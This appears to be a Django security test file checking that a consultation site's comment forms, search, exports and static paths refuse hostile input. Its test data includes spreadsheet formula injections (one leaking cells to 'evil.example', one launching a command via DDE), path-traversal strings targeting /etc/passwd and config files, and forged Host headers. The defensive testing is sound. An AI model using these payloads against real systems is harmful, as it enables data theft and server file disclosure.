"""Hostile input: markup, SQL metacharacters, path traversal and malformed requests are refused with a 4xx or
rendered harmless. Never a 500, never file contents, never a half-stored comment."""

import csv
import io
import re
from collections.abc import Callable
from urllib.parse import urlencode

import openpyxl
import pytest
from django.conf import settings
from django.test import Client
from django.urls import reverse
from django.utils.html import escape

from consultations.models import Comment, ConsultationPage
from consultations.services import change_state
from tests.periods import publish_results
from tests.security.hostile import (
    FILE_CONTENTS,
    MARKUP,
    SQL,
    assert_harmless,
    content,
    tolerant_client,
)

pytestmark = pytest.mark.django_db


def comment_url(consultation, language: str) -> str:
    page = ConsultationPage.objects.get(translation_key=consultation.translation_key, locale__language_code=language)
    return f"/{language}/comments/{page.pk}/"


def csv_rows(response) -> list[list[str]]:
    assert response["Content-Type"].startswith("text/csv")
    assert response["X-Content-Type-Options"] == "nosniff"  # never sniffed into HTML
    return list(csv.reader(io.StringIO(content(response).decode("utf-8-sig"))))


# --- markup in every comment form field ----------------------------------------------------------------------

# Free text is stored as typed and shown escaped; consent is a checkbox (any value ticks it, nothing is stored);
# every other field takes only known values and refuses the rest.
STORED_FIELDS = {"body", "name", "consent"}
FORM_FIELDS = [
    "body",
    "name",
    "email",
    "age_group",
    "residence",
    "publication",
    "consent",
    "website",
    "form_token",
    "page",
    "part",
    "item",
]


def published_everywhere(web: Client, moderator, consultation, card, receipt_url: str) -> dict:
    """Every place a stored comment is shown: to the resident, to the public once published, to staff."""
    shown = {"receipt": web.get(receipt_url)}
    comment = Comment.objects.get()
    secret = re.search(r'class="receipt__secret"><code>([^<]+)</code>', content(shown["receipt"]).decode()).group(1)
    shown["status"] = web.post(
        consultation.url + "status/", {"receipt_number": comment.receipt_number, "email_or_secret": secret}
    )

    change_state(Comment.objects.all(), "published", moderator)
    publish_results(consultation)
    shown["results"] = web.get(consultation.url + "results/")
    shown["card"] = web.get(card("3-1").url)
    shown["opendata-json"] = web.get(consultation.url + "results/opendata/json/")
    shown["opendata-csv"] = web.get(consultation.url + "results/opendata/csv/")

    staff = tolerant_client()
    staff.force_login(moderator)
    shown["admin-queue"] = staff.get(reverse("wagtailsnippets_consultations_comment:list"))
    shown["admin-edit"] = staff.get(reverse("wagtailsnippets_consultations_comment:edit", args=[comment.pk]))
    shown["admin-inspect"] = staff.get(reverse("wagtailsnippets_consultations_comment:inspect", args=[comment.pk]))
    shown["admin-csv"] = staff.get(reverse("consultations_comment_export", args=["csv"]))
    return shown


@pytest.mark.parametrize("field", FORM_FIELDS)
@pytest.mark.parametrize("payload", MARKUP.values(), ids=MARKUP.keys())
def test_markup_in_a_comment_field_is_refused_or_shown_as_text_everywhere(
    consultation, comment_data, card, moderator, field, payload
):
    web = tolerant_client()
    data = comment_data(**{field: payload})
    if field == "part":
        data["item"] = ""
    response = web.post(comment_url(consultation, "ja"), data)

    if field not in STORED_FIELDS:
        assert response.status_code == 400
        assert_harmless(response)  # the form comes back with the input in it
        assert Comment.objects.count() == 0
        return
    assert response.status_code == 302
    stored = Comment.objects.get()
    if field != "consent":
        assert getattr(stored, field) == payload  # kept exactly as typed: text, not "sanitised" HTML

    shown = published_everywhere(web, moderator, consultation, card, response["Location"])
    files = {name: shown.pop(name) for name in ("opendata-json", "opendata-csv", "admin-csv")}
    for surface, page in shown.items():
        assert page.status_code == 200, surface
        assert page["Content-Type"].startswith("text/html"), surface
        text = assert_harmless(page)
        if field != "consent" and surface in {"results", "card", "admin-edit", "admin-inspect"}:
            assert escape(payload) in text, f"{surface} does not show the {field} as text"

    # Data files hold the text exactly; they are never HTML to a browser (their type, nosniff, attachment).
    assert files["opendata-json"]["Content-Type"].startswith("application/json")
    assert files["opendata-json"]["X-Content-Type-Options"] == "nosniff"
    assert files["opendata-json"].json()[0]["body"] == stored.body
    assert csv_rows(files["opendata-csv"])[1][3] == stored.body
    assert files["admin-csv"]["Content-Disposition"].startswith("attachment")
    assert csv_rows(files["admin-csv"])[1][5:7] == [stored.body, stored.name]


@pytest.mark.parametrize("param", ["page", "part", "item"])
@pytest.mark.parametrize("payload", MARKUP.values(), ids=MARKUP.keys())
def test_markup_in_the_comment_form_address_is_refused_harmlessly(consultation, card, param, payload):
    query = {"page": str(card("3-1").pk), "part": "kpi", "item": "x", param: payload}
    response = tolerant_client().get(consultation.url + "comment/", query)
    assert response.status_code == 400
    assert_harmless(response)


FORMULAS = {
    "equals-hyperlink": '=HYPERLINK("http://evil.example/?leak="&A1,"詳しくはこちら")',
    "at-function": "@SUM(1+1)*cmd|' /C calc'!A0",
    "plus": "+1+1",
    "minus": "-1+1",
    "full-width-equals": "＝1+1",
}


@pytest.mark.parametrize("formula", FORMULAS.values(), ids=FORMULAS.keys())
def test_spreadsheet_formulas_in_a_comment_stay_text_in_every_export(
    client, consultation, comment_data, moderator, formula
):
    assert client.post(comment_url(consultation, "ja"), comment_data(body=formula, name=formula)).status_code == 302
    change_state(Comment.objects.all(), "published", moderator)
    publish_results(consultation)

    public = csv_rows(client.get(consultation.url + "results/opendata/csv/"))
    assert public[1][3] == "'" + formula  # a leading apostrophe: Excel shows it as text
    client.force_login(moderator)
    staff = csv_rows(client.get(reverse("consultations_comment_export", args=["csv"])))
    assert staff[1][5:7] == ["'" + formula, "'" + formula]
    xlsx = client.get(reverse("consultations_comment_export", args=["xlsx"]))
    sheet = openpyxl.load_workbook(io.BytesIO(content(xlsx))).active
    assert (sheet.cell(2, 6).data_type, sheet.cell(2, 6).value) == ("s", formula)  # a string cell, never "f"


# --- search --------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("payload", [*MARKUP.values(), *SQL.values()], ids=[*MARKUP, *SQL])
def test_search_query_is_shown_as_text_and_never_breaks_the_search(payload):
    web = tolerant_client()
    for language in ("ja", "en"):
        response = web.get(f"/{language}/search/", {"q": payload})
        assert response.status_code == 200
        text = assert_harmless(response)
        assert f'value="{escape(payload)}"' in text  # the box keeps what was typed, escaped

        filtered = web.get(
            f"/{language}/search/", {"q": "防災", "area": payload, "department": payload, "page": payload}
        )
        assert filtered.status_code == 200
        assert_harmless(filtered)

        suggest = web.get(f"/{language}/search/suggest/", {"q": payload})
        assert suggest.status_code == 200
        assert suggest["Content-Type"].startswith("application/json")
        assert isinstance(suggest.json()["suggestions"], list)


@pytest.mark.parametrize("payload", [*MARKUP.values(), *SQL.values()], ids=[*MARKUP, *SQL])
def test_admin_comment_search_takes_any_text_literally(consultation, moderator, payload):
    Comment.objects.create(consultation=consultation, body="達成率100%を目標に", publication="anonymous")
    Comment.objects.create(consultation=consultation, body="ふつうの意見", publication="anonymous")
    staff = tolerant_client()
    staff.force_login(moderator)
    for view in ("list", "list_results"):
        response = staff.get(reverse(f"wagtailsnippets_consultations_comment:{view}"), {"q": payload})
        assert response.status_code == 200
        text = assert_harmless(response)
    # LIKE wildcards are matched as characters: "%" finds the one comment containing it, "_" finds none.
    expected = {"%": ["達成率100%を目標に"], "_": [], "\\": []}.get(payload)
    if expected is not None:
        found = [body for body in ("達成率100%を目標に", "ふつうの意見") if escape(body[:8]) in text]
        assert found == expected


@pytest.mark.parametrize("payload", SQL.values(), ids=SQL.keys())
def test_status_lookup_with_sql_metacharacters_finds_nothing(consultation, payload):
    response = tolerant_client().post(
        consultation.url + "status/", {"receipt_number": payload[:12], "email_or_secret": payload}
    )
    assert response.status_code == 404
    assert "見つかりません" in assert_harmless(response)


# --- path traversal ------------------------------------------------------------------------------------------

TRAVERSALS = [
    "/ja/../../etc/passwd",
    "/static/../manage.py",
    "/%2e%2e/%2e%2e/etc/passwd",
    "/media/../db.sqlite3",
    "/static/%2e%2e/%2e%2e/manage.py",
    "/static/..%2f..%2fmanage.py",
    "/static/..%5c..%5cmanage.py",
    "/static/css/../../../mieplan_site/settings/base.py",
    "/static/%252e%252e/manage.py",
    "/en/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
    "/documents/../db.sqlite3",
    "/opendata/../manage.py",
    "/ja/%00/../../etc/passwd",
    "/static//etc/passwd",
]


@pytest.mark.parametrize("path", TRAVERSALS)
def test_path_traversal_finds_no_file(path):
    web = tolerant_client()
    response = web.get(path)
    for _hop in range(3):  # a redirect to the language prefix is fine if it leads nowhere either
        if response.status_code not in (301, 302):
            break
        assert response["Location"].startswith("/")
        response = web.get(response["Location"])
    assert response.status_code in (400, 404)
    body = content(response)
    assert not any(marker in body for marker in FILE_CONTENTS)


# --- giant and malformed requests ----------------------------------------------------------------------------


def urlencoded(data: dict, **raw: bytes) -> bytes:
    """Form data, plus fields given as raw (already percent-encoded) bytes: how a broken client sends them."""
    return urlencode(data).encode() + b"".join(b"&" + name.encode() + b"=" + value for name, value in raw.items())


def multipart(data: dict, boundary: str = "hostile") -> bytes:
    parts = [
        f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{value}\r\n'.encode()
        for name, value in data.items()
    ]
    return b"".join(parts) + f"--{boundary}--\r\n".encode()


FORM = "application/x-www-form-urlencoded"
Request = Callable[[Client, str, Callable[..., dict]], object]

MALFORMED: dict[str, Request] = {
    "body-over-upload-limit": lambda web, url, data: web.post(
        url, data(body="あ" * (settings.DATA_UPLOAD_MAX_MEMORY_SIZE // 3 + 1))
    ),
    "multipart-over-upload-limit": lambda web, url, data: web.generic(
        "POST",
        url,
        multipart(data(body="a" * (settings.DATA_UPLOAD_MAX_MEMORY_SIZE + 1))),
        content_type="multipart/form-data; boundary=hostile",
    ),
    "too-many-fields": lambda web, url, data: web.generic(
        "POST",
        url,
        urlencoded(data()) + b"&x=1" * (settings.DATA_UPLOAD_MAX_NUMBER_FIELDS + 1),
        content_type=FORM,
    ),
    "multipart-without-boundary": lambda web, url, data: web.generic(
        "POST", url, multipart(data()), content_type="multipart/form-data"
    ),
    "multipart-truncated": lambda web, url, data: web.generic(
        "POST", url, multipart(data())[:-40], content_type="multipart/form-data; boundary=hostile"
    ),
    "multipart-garbage": lambda web, url, data: web.generic(
        "POST", url, b"\x00\xff" * 500, content_type="multipart/form-data; boundary=hostile"
    ),
    "utf16-form": lambda web, url, data: web.generic(
        "POST", url, urlencoded(data()).decode().encode("utf-16"), content_type=FORM + "; charset=utf-16"
    ),
    "shift-jis-form": lambda web, url, data: web.generic(
        "POST", url, "body=意見&name=三重".encode("shift_jis"), content_type=FORM + "; charset=shift_jis"
    ),
    "invalid-utf8-in-body": lambda web, url, data: web.generic(
        "POST", url, urlencoded(data(body=None), body=b"%ff%fe%E3%81"), content_type=FORM
    ),
    "invalid-utf8-in-name": lambda web, url, data: web.generic(
        "POST", url, urlencoded(data(name=None), name=b"%c0%af"), content_type=FORM
    ),
    "invalid-utf8-in-email": lambda web, url, data: web.generic(
        "POST", url, urlencoded(data(email=None), email=b"taro@%ff%fe.jp"), content_type=FORM
    ),
    "nul-in-body": lambda web, url, data: web.post(url, data(body="意見\x00です")),
    "nul-in-name": lambda web, url, data: web.post(url, data(name="三重\x00太郎")),
    "nul-in-email": lambda web, url, data: web.post(url, data(email="taro\x00@example.jp")),
    "nul-in-target": lambda web, url, data: web.post(url, data(item="\x00")),
    "nul-in-form-token": lambda web, url, data: web.post(url, data(form_token="1:\x00")),
    "escape-sequence-in-name": lambda web, url, data: web.post(url, data(name="\x1b[31m管理者\x1b[0m")),
    "bell-in-body": lambda web, url, data: web.post(url, data(body="意見\x07")),
    "email-over-column-length": lambda web, url, data: web.post(
        url, data(email="a" * 64 + "@" + "b" * 60 + ".b" * 100 + ".jp")
    ),
    "superscript-digit-target": lambda web, url, data: web.post(url, data(page="²")),
    "huge-number-target": lambda web, url, data: web.post(url, data(page="9" * 5000)),
    "enormous-query-string": lambda web, url, data: web.get(url + "?page=" + "9" * 100_000),
    "too-many-query-fields": lambda web, url, data: web.get(
        url + "?" + "&".join(f"f{i}=1" for i in range(settings.DATA_UPLOAD_MAX_NUMBER_FIELDS + 1))
    ),
    "invalid-utf8-query-string": lambda web, url, data: web.get(url + "?page=%ff%fe"),
    "bad-host-header": lambda web, url, data: web.post(url, data(), HTTP_HOST="evil.example"),
    "bad-host-with-port-and-path": lambda web, url, data: web.post(url, data(), HTTP_HOST="evil.example:80/x?y"),
}


@pytest.mark.parametrize("language", ["ja", "en"])
@pytest.mark.parametrize("attack", MALFORMED.values(), ids=MALFORMED.keys())
def test_malformed_comment_request_gets_a_4xx_page_in_the_readers_language(
    consultation, comment_data, attack, language
):
    response = attack(tolerant_client(), comment_url(consultation, language), comment_data)
    assert 400 <= response.status_code < 500
    text = assert_harmless(response)
    assert f'<html lang="{language}">' in text
    assert "evil.example" not in text  # a forged Host never makes it into links
    assert Comment.objects.count() == 0


SEARCH_ATTACKS = {
    "invalid-utf8-query": "q=%ff%fe",
    "nul-in-query": "q=%E9%98%B2%00",
    "control-character-in-query": "q=%1b%5b2J",
    "enormous-query": "q=" + "a" * 100_000,
    "too-many-fields": "&".join(f"f{i}=1" for i in range(settings.DATA_UPLOAD_MAX_NUMBER_FIELDS + 1)),
    "superscript-digit-area": "q=%E9%98%B2%E7%81%BD&area=%C2%B2&department=%C2%B2",
    "huge-number-area": "q=%E9%98%B2%E7%81%BD&area=" + "9" * 5000,
    "invalid-page-number": "q=%E9%98%B2%E7%81%BD&page=%ff",
}


@pytest.mark.parametrize("language", ["ja", "en"])
@pytest.mark.parametrize("query", SEARCH_ATTACKS.values(), ids=SEARCH_ATTACKS.keys())
def test_malformed_search_gets_an_answer_in_the_readers_language(query, language):
    web = tolerant_client()
    page = web.get(f"/{language}/search/?{query}")
    assert page.status_code < 500
    assert f'<html lang="{language}">' in assert_harmless(page)
    suggest = web.get(f"/{language}/search/suggest/?{query}")
    assert suggest.status_code < 500


@pytest.mark.parametrize("query", ["q=%ff%fe", "q=%00", "q=%E9%98%B2%1b"])
def test_search_words_with_broken_or_control_characters_are_refused(query):
    page = tolerant_client().get(f"/en/search/?{query}")
    assert page.status_code == 400
    assert "contain characters that cannot be used" in content(page).decode()
    suggest = tolerant_client().get(f"/en/search/suggest/?{query}")
    assert (suggest.status_code, suggest.json()) == (400, {"suggestions": []})


@pytest.mark.parametrize(
    ("language", "message"),
    [("ja", "文字化けした文字（�）が含まれています"), ("en", "Your text contains a garbled character (�)")],
)
def test_comment_with_bytes_that_are_not_utf8_is_refused_with_a_message(consultation, comment_data, language, message):
    response = MALFORMED["invalid-utf8-in-body"](tolerant_client(), comment_url(consultation, language), comment_data)
    assert response.status_code == 400
    assert message in content(response).decode()


def test_oversized_comment_gets_the_english_error_page_in_english(consultation, comment_data):
    response = MALFORMED["body-over-upload-limit"](tolerant_client(), comment_url(consultation, "en"), comment_data)
    assert response.status_code == 400
    assert "We could not process your request" in content(response).decode()


@pytest.mark.parametrize("host", ["evil.example", "testserver.evil.example", "127.0.0.1@evil.example", ""])
@pytest.mark.parametrize("path", ["/ja/", "/en/search/?q=x", "/ja/consultation/", "/admin/login/"])
def test_forged_host_header_is_refused(host, path):
    response = tolerant_client().get(path, HTTP_HOST=host)
    assert response.status_code == 400
    assert b"evil.example" not in content(response)
